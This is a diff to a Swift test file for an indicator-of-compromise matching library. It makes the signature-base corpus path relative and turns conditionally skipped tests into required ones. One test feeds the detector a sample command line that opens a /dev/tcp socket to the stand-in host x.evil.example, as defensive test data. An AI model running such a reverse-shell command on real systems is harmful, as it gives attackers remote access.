@@ -11,7 +11,9 @@ private let repoRoot: String = {
     return url.path
 }()
 
-private let signatureBaseIOCs = "/work/shared/corpora/signature-base/iocs"
+/// ../shared/corpora/signature-base/iocs beside the repository (found from this file's path).
+private let signatureBaseIOCs = URL(fileURLWithPath: repoRoot).deletingLastPathComponent()
+    .appendingPathComponent("shared/corpora/signature-base/iocs").path
 
 private func makeDir(_ files: [String: String]) throws -> String {
     let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ioc-test-\(UUID().uuidString)").path
@@ -249,9 +251,9 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(!t4.contains { $0.hasPrefix("/") })
     }
 
-    @Test func devTcpHostIsFound() {
+    @Test func devTcpHostIsFound() throws {
         // /dev/tcp/HOST/PORT: the host is a path component, so it is looked for there too.
-        let set = (try? build { b in try b.addDomain("evil.example") }) ?? IOCSet()
+        let set = try build { b in try b.addDomain("evil.example") }
         let ev = Event(logsource: LogSource(product: "linux", category: "process_creation"),
                        fields: [("CommandLine", "bash -c 'exec 5<>/dev/tcp/x.evil.example/443'")])
         #expect(set.match(event: ev).map(\.indicator) == ["evil.example"])
@@ -410,8 +412,8 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(r.set.matchIP("203.0.113.200")?.indicator == "203.0.113.0/24")
     }
 
-    @Test(.enabled(if: FileManager.default.fileExists(atPath: signatureBaseIOCs)))
-    func signatureBaseListsLoad() {
+    @Test func signatureBaseListsLoad() throws {
+        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
         let r = IOCSet.load(directory: signatureBaseIOCs)
         let c = r.set.counts
         print("signature-base IOCs: \(c), \(r.diagnostics.count) rejected lines")
@@ -431,8 +433,8 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
     }
 
     /// The prefilters never change the answer: compare with every pattern run one by one.
-    @Test(.enabled(if: FileManager.default.fileExists(atPath: signatureBaseIOCs)))
-    func prefilteredPathMatchingEqualsBruteForce() throws {
+    @Test func prefilteredPathMatchingEqualsBruteForce() throws {
+        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
         let set = IOCSet.load(directory: signatureBaseIOCs).set
         let entries = set.paths.entries
         var paths = ["/usr/bin/bash", "/tmp/x.sh", #"C:\Windows\System32\svchost.exe"#, "/dev/shm/kworker", ""]
